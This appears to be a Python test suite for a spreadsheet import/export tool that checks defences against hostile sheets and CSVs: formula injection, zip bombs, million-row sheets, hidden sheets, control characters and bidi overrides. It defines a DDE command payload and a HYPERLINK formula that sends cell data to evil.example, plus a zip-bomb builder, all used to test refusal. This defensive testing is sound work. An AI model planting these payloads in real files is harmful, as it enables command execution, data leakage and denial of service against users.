"""Issue 11: hostile spreadsheets against `import`, `export` and `template`, each run as a person runs
them (the CLI in a subprocess, on a copy of data/): formula injection, zip bombs and sheets that
state a million rows, hidden sheets, CSVs in no known encoding or with giant cells, UTF-16 text,
control characters and bidi overrides, formulas without a stored value and merged cells.

The memory attacks run under an address-space limit (RLIMIT_AS), so that the code before the fix
fails with a MemoryError (exit 3) instead of taking the machine's memory."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import resource
import shutil
import subprocess
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from ruamel.yaml import YAML

from biliktilik.load import iin as iin_check
from conftest import CLI, DATA, run_cli

COHORT = "2026-02-tor-ru"  # Russian, 5 listeners (l01..l05), programme with modules 1-5
COHORT_FILE = f"data/cohorts/{COHORT}.yaml"
HEADERS = ["Фамилия", "Имя", "Отчество", "ИИН", "Место работы", "Должность"]
NEW_IIN = iin_check.make(dt.date(1990, 7, 15), True, 300)
NEW_IIN2 = iin_check.make(dt.date(1988, 1, 5), False, 410)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Нажмите")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def work(tmp_path):
    shutil.copytree(DATA, tmp_path / "data")
    return tmp_path


def _limited_cli(*args, cwd, limit_mb=1500):
    """The CLI in a subprocess with at most ``limit_mb`` MB of address space."""
    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (limit_mb << 20, limit_mb << 20))
    env = dict(os.environ, SOURCE_DATE_EPOCH="1795392000")
    return subprocess.run(CLI + [str(a) for a in args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=600, preexec_fn=limit)


def _one_line_refusal(proc, *words):
    assert proc.returncode == 2, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    for w in words:
        assert w in proc.stderr, proc.stderr


def _edit_listener(work, index, **changes):
    path = work / COHORT_FILE
    y = YAML()
    doc = y.load(path.read_text(encoding="utf-8"))
    for key, value in changes.items():
        if key in ("surname", "given"):
            doc["listeners"][index]["name"][key] = value
        else:
            doc["listeners"][index][key] = value
    with path.open("w", encoding="utf-8") as fh:
        y.dump(doc, fh)


def _sheet_xml(xlsx) -> str:
    with zipfile.ZipFile(xlsx) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _write_csv(path, rows, encoding="utf-8-sig", sep=";"):
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


# -- 1. formula injection ---------------------------------------------------------------------

def test_export_and_template_never_write_a_formula_and_import_reads_the_protected_cell_back(work):
    _edit_listener(work, 0, surname=DDE, employer=HYPERLINK)
    _edit_listener(work, 1, employer="+7 and @mention -dash")
    for command, name in (("export", "out.xlsx"), ("template", "tpl.xlsx")):
        run_cli(command, "--cohort", COHORT, work / name, cwd=work, check=0)
        xml = _sheet_xml(work / name)
        assert "<f>" not in xml and "<f " not in xml, f"{command}: a formula in the sheet"
        ws = load_workbook(work / name).worksheets[0]
        values = [c.value for row in ws.iter_rows() for c in row]
        assert DDE in values and HYPERLINK in values  # the text as recorded, a string cell
        for row in ws.iter_rows():
            for c in row:
                if c.value in (DDE, HYPERLINK):
                    assert c.data_type == "s"

    run_cli("export", "--cohort", COHORT, work / "out.csv", cwd=work, check=0)
    rows = list(csv.reader(io.StringIO((work / "out.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + DDE in cells and "'" + HYPERLINK in cells and "'+7 and @mention -dash" in cells
    # no cell of the data starts with a formula character, but the IINs' and phones' ="..." text convention
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r'="[0-9 +()-]*"', c), c

    # the import strips the protective apostrophe: the exported rows read back unchanged
    for name in ("out.csv", "out.xlsx"):
        proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / name, cwd=work)
        assert "5 row(s): 0 new, 0 changed, 5 unchanged" in proc.stdout, proc.stdout


def test_validate_refuses_names_and_warns_on_employers_that_start_like_a_formula(work):
    _edit_listener(work, 0, surname=DDE)
    _edit_listener(work, 1, employer=HYPERLINK)
    _edit_listener(work, 2, employer="@school")
    proc = run_cli("validate", "--format", "json", cwd=work)
    assert proc.returncode == 1
    import json
    found = sorted((f["line"], f["severity"]) for f in json.loads(proc.stdout) if f["code"] == "text.formula")
    # the name: an error (printed on certificates); the employers: warnings ('-' may stand for "none")
    assert [severity for _line, severity in found] == ["error", "warning", "warning"], proc.stdout


def test_an_imported_formula_name_is_refused_after_the_protective_apostrophe_is_read(work):
    _write_csv(work / "evil.csv", [HEADERS, ["'" + DDE, "Ольга", "", NEW_IIN, HYPERLINK, "педагог"]])
    proc = run_cli("import", "--cohort", COHORT, work / "evil.csv", cwd=work)
    assert proc.returncode == 1
    assert re.search(r"evil\.csv:2:1: error text\.formula: listener l06: «=cmd", proc.stdout), proc.stdout
    assert re.search(r"evil\.csv:2:1: warning text\.formula: listener l06: «=HYPERLINK", proc.stdout), proc.stdout
    assert (work / COHORT_FILE).read_bytes() == (DATA / "cohorts" / f"{COHORT}.yaml").read_bytes()


# -- 2. memory: a sheet stating a million rows, zip bombs ------------------------------------

def _template(work, name="list.xlsx"):
    run_cli("template", "--cohort", COHORT, work / name, cwd=work, check=0)
    return work / name


def _far_cell_workbook(path, row: int, column: int):
    """A listener sheet (the headers in row 1) with one "x" at (row, column), saved at ``path``."""
    wb = Workbook()
    ws = wb.active
    for j, h in enumerate(HEADERS, start=1):
        ws.cell(1, j, h)
    ws.cell(row, column, "x")
    wb.save(path)


def test_one_cell_at_xfd1048576_is_refused_without_taking_memory(work):
    _far_cell_workbook(work / "far.xlsx", 1048576, 16384)
    assert (work / "far.xlsx").stat().st_size < 10_000
    _one_line_refusal(_limited_cli("import", "--dry-run", "--cohort", COHORT, work / "far.xlsx", cwd=work),
                      "far.xlsx", "reaches row 1048576")


def test_a_far_cell_without_a_stated_dimension_is_refused_too(work):
    _far_cell_workbook(work / "far.xlsx", 1048576, 1)
    with zipfile.ZipFile(work / "far.xlsx") as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = re.sub(r"<dimension [^>]*/>", "", xml).encode()
    assert b"<dimension" not in parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(work / "nodim.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            z.writestr(n, b)
    _one_line_refusal(_limited_cli("import", "--dry-run", "--cohort", COHORT, work / "nodim.xlsx", cwd=work),
                      "more than 10000 rows")


def _bomb(src, dst, megabytes):
    """``src`` with ``megabytes`` MB of whitespace inside its sheet's XML (valid XML still)."""
    with zipfile.ZipFile(src) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"]
    at = xml.index(b"<sheetData>")
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            if n != "xl/worksheets/sheet1.xml":
                z.writestr(n, b)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(xml[:at])
            block = b" " * (1 << 20)
            for _ in range(megabytes):
                fh.write(block)
            fh.write(xml[at:])


def test_zip_bombs_are_refused_before_parsing(work):
    src = _template(work)
    _bomb(src, work / "big.xlsx", 200)  # 200 MB of XML: over the 50 MB in all
    assert (work / "big.xlsx").stat().st_size < 2_000_000
    _one_line_refusal(_limited_cli("import", "--dry-run", "--cohort", COHORT, work / "big.xlsx", cwd=work), "refused")
    _bomb(src, work / "dense.xlsx", 5)  # 5 MB of spaces: small, but compressed 1000 times
    _one_line_refusal(_limited_cli("import", "--dry-run", "--cohort", COHORT, work / "dense.xlsx", cwd=work),
                      "refused", "compressed")


def test_more_rows_than_the_cap_are_refused_in_xlsx_and_csv(work):
    rows = [HEADERS] + [[f"Фамилия{i}", "Имя", "", "", "Школа", "педагог"] for i in range(10_050)]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    for r in rows:
        ws.append(r)
    wb.save(work / "many.xlsx")
    _write_csv(work / "many.csv", rows)
    for name in ("many.xlsx", "many.csv"):
        _one_line_refusal(run_cli("import", "--dry-run", "--cohort", COHORT, work / name, cwd=work), "more than 10000 rows")


# -- 4. hidden sheets -------------------------------------------------------------------------

def test_the_visible_active_sheet_is_read_and_hidden_ones_are_named(work):
    wb = Workbook()
    hidden = wb.active
    hidden.title = "Скрытый"
    hidden.append(HEADERS)
    hidden.append(["Подменная", "Анна", "", NEW_IIN2, "Школа", "педагог"])
    hidden.sheet_state = "hidden"
    shown = wb.create_sheet("Слушатели")
    shown.append(HEADERS)
    shown.append(["Смирнова", "Елена", "Павловна", NEW_IIN, "КГУ «Школа № 3»", "педагог"])
    wb.active = 1
    wb.save(work / "two.xlsx")
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "two.xlsx", cwd=work, check=0)
    assert "read the sheet «Слушатели»" in proc.stdout
    assert "new listener l06 Смирнова Елена" in proc.stdout and "Подменная" not in proc.stdout.split("warning")[0]
    assert "import.hidden-sheet" in proc.stdout and "«Скрытый»" in proc.stdout

    # the active sheet hidden: the first visible one is read
    wb = load_workbook(work / "two.xlsx")
    wb.active = 0
    wb.save(work / "active-hidden.xlsx")
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "active-hidden.xlsx", cwd=work, check=0)
    assert "read the sheet «Слушатели»" in proc.stdout and "Смирнова" in proc.stdout


# -- 5. CSV encodings and giant cells ---------------------------------------------------------

def test_a_csv_in_no_known_encoding_or_with_a_giant_cell_is_one_clear_error(work):
    (work / "bad.csv").write_bytes("Фамилия;Имя;ИИН\r\nИванова;Ольга;".encode("cp1251") + b"\x98\r\n")
    _one_line_refusal(run_cli("import", "--dry-run", "--cohort", COHORT, work / "bad.csv", cwd=work), "0x98", "UTF-8")
    _write_csv(work / "giant.csv", [HEADERS, ["Иванова", "О" * 200_000, "", NEW_IIN, "Школа", "педагог"]])
    _one_line_refusal(run_cli("import", "--dry-run", "--cohort", COHORT, work / "giant.csv", cwd=work), "row 2")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])  # Excel's "Unicode Text": BOM + LE; and without BOM
def test_utf16_unicode_text_is_read(work, encoding):
    _write_csv(work / "unicode.txt", [HEADERS, ["Смирнова", "Елена", "Павловна", NEW_IIN, "КГУ «Школа № 3»", "педагог"]],
               encoding=encoding, sep="\t")
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "unicode.txt", cwd=work, check=0)
    assert "row 2: new listener l06 Смирнова Елена" in proc.stdout, proc.stdout


# -- 6. control characters and bidi overrides -------------------------------------------------

@pytest.mark.parametrize("evil", ["\x1b[2J\x1b[31mИванова", "Ива\u202eанов", "Ким\x00", "Ким\x07", "Ким\x9b"])
def test_import_refuses_control_characters_and_never_prints_them(work, evil):
    _write_csv(work / "evil.csv", [HEADERS, [evil, "Ольга", "", NEW_IIN, "Школа", "педагог"]])
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "evil.csv", cwd=work)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "import.control-character" in proc.stdout
    odd = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    assert not odd.search(proc.stdout + proc.stderr), repr(proc.stdout)


def test_validate_refuses_control_characters_in_any_text(work):
    text = (work / COHORT_FILE).read_text(encoding="utf-8")
    text = text.replace("surname: Иванова", 'surname: "Ива\\u202Eнова"', 1)
    text = text.replace("city: {kk: Қарағанды,", 'city: {kk: "Қара\\eғанды",', 1)
    (work / COHORT_FILE).write_text(text, encoding="utf-8")
    proc = run_cli("validate", cwd=work)
    assert proc.returncode == 1
    lines = [l for l in proc.stdout.splitlines() if "text.control-character" in l]
    assert len(lines) == 2 and all("error" in l for l in lines), proc.stdout
    assert "\\u202e" in proc.stdout and "\\x1b" in proc.stdout
    assert "\u202e" not in proc.stdout and "\x1b" not in proc.stdout


# -- 7. formulas without a value, merged cells, many unknown columns --------------------------

def test_formula_without_value_and_merged_cells_are_named_as_such(work):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    ws.append(['=CONCATENATE("Смир","нова")', "Елена", "", NEW_IIN, "Школа", "педагог"])
    ws.append(["Ахметова", "Дана", "", NEW_IIN2, "Школа № 5", "педагог"])
    ws.append(["Ахметова", "Жанна", "", iin_check.make(dt.date(1985, 3, 3), True, 77), "", "педагог"])
    ws.merge_cells("E3:E4")  # the employer of rows 3 and 4 merged
    wb.save(work / "f.xlsx")
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "f.xlsx", cwd=work)
    assert proc.returncode == 1
    assert re.search(r"f\.xlsx:2:1: error import\.formula: .*formula without a stored value", proc.stdout), proc.stdout
    assert re.search(r"f\.xlsx:4:1: error import\.merged: .*merged cell.*unmerge", proc.stdout), proc.stdout
    assert "these cells are empty" not in proc.stdout and "this cell is empty" not in proc.stdout


def test_thousands_of_unknown_columns_give_one_warning(work):
    header = HEADERS + [f"Лишний {i}" for i in range(3000)]
    _write_csv(work / "wide.csv", [header, ["Смирнова", "Елена", "", NEW_IIN, "Школа", "педагог"] + [""] * 3000])
    proc = run_cli("import", "--dry-run", "--cohort", COHORT, work / "wide.csv", cwd=work, check=0)
    warnings = [l for l in proc.stdout.splitlines() if "import.unknown-column" in l]
    assert len(warnings) == 1 and "3000 columns" in warnings[0], warnings[:3]


@pytest.mark.parametrize("value", [DDE, HYPERLINK, "'=A1", "''@x", "-", "+7 school", "@home", "\t=x", "\r=x",
                                   "'Болашақ' мектебі", "Школа № 5"])
def test_a_csv_text_is_never_a_formula_and_reads_back_exactly(value):
    from biliktilik.staff import columns as C
    from biliktilik.staff.sheets import _csv_cell

    employer = next(c for c in C.columns([]) if c.field == "employer")
    cell = _csv_cell(value, employer, "kk")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert C.read_text(cell) == value
